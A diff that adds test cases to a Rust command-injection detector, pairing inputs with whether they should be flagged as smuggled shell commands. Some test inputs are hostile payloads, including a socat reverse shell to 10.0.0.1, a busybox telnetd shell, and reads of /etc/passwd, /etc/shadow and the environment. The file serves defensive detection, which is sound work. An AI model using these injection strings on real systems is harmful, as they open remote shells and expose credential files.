@@ -31,6 +31,19 @@ fn commands_are_found_behind_separators() {
             ("; echo x > /tmp/y", true),
             ("10.0.0.1;env", true),
             ("x;busybox telnetd -l /bin/sh", true),
+            ("x;sudo -l", true),
+            ("'$(env)'", true),
+            ("10.0.0.1\nls", true),
+            ("; echo word;", true),
+            ("x\" | ls | \"", true),
+            ("& powershell Get-Process", true),
+            ("x\nls", false),
+            ("|name|ls|date|", false),
+            ("; echo dot and show", false),
+            ("& powershell scripts", false),
+            (";xargs -I{} sh -c id", true),
+            ("& dig +short x.example &", true),
+            (";socat exec:sh tcp:10.0.0.1:4", true),
             (";chmod 755 x", true),
             (";find / -name x", true),
             ("|more+/etc/passwd", true),
@@ -104,6 +117,28 @@ fn whole_values_can_be_command_lines() {
             ("python 3.12 release notes", false),
         ],
     );
+}
+
+#[test]
+fn texts_may_talk_about_commands() {
+    for (text, expected) in [
+        ("Title: help\n\nls -la | wc -l gives 12\n\nEdit: solved.", false),
+        ("I ran chmod 644 a.txt; ls -l shows the same bits as before", false),
+        ("`rm -rf ./build && make -j4` did not change anything at all", false),
+        ("```sh\ncd /srv/app && ./run.sh --port 8080\n```", false),
+        ("```bash\nmake\n```\n\n```powershell\nGet-ChildItem -Path C:\\ | Where-Object { $_.Length }\n```", false),
+        ("#!/bin/sh\nset -e\ncd /srv/app\nrsync -a ./dist web:/srv", false),
+        ("Use `git log --oneline | head -5` to see the last commits, then go on", false),
+        ("x`git log --oneline | head -5` to see the last commits, then go on", true),
+        ("10.0.0.1; ls -la /srv # and then some words follow here", true),
+        ("x`ls -la`y and then some words follow here", true),
+        ("10.0.0.1\n\nls -la /srv", true),
+        ("```sh\ncat /etc/shadow\n```", true),
+        ("what a lovely day it is | ls -la /srv", true),
+    ] {
+        assert_eq!(separated_command(&body(text)).is_some(), expected, "{text}");
+        assert!(separated_command(&query(text)).is_some() || !expected, "{text}");
+    }
 }
 
 #[test]
